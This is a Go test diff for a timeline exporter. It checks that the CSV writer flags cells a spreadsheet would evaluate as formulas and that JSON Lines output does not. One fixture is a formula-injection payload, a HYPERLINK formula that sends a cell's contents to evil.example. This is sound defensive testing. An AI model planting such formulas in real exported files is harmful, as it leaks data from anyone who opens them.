@@ -81,3 +81,27 @@ func TestWriteErrors(t *testing.T) {
 		}
 	}
 }
+
+// TestWriteCSVSaysFormulaCells: Timesketch CSV writes a cell that a
+// spreadsheet would run as a formula as it is, as Timesketch reads it,
+// and counts it; JSON Lines, which no spreadsheet opens, does not.
+func TestWriteCSVSaysFormulaCells(t *testing.T) {
+	title := `=HYPERLINK("http://evil.example/?"&A1,"open")`
+	tl := model.Timeline{Events: []model.Event{
+		{ID: "a", Title: title, Date: model.MustParseDate("2021-01-01T00:00:00Z"), Summary: "@SUM(1+1)"},
+		{ID: "b", Title: "Plain", Date: model.MustParseDate("-0043")},
+	}}
+	for _, w := range writers {
+		doc, _, lost := w.mustWrite(t, tl)
+		want := 0
+		if w.name == "csv" {
+			want = 2
+		}
+		if got := lost.Count(FormulaCells); got != want {
+			t.Errorf("%s: %d formula cells counted, want %d", w.name, got, want)
+		}
+		if w.name == "csv" && !strings.Contains(doc.String(), `"=HYPERLINK(""http://evil.example/?""&A1,""open"")"`) {
+			t.Errorf("%s: the title is not written as it is:\n%s", w.name, doc)
+		}
+	}
+}
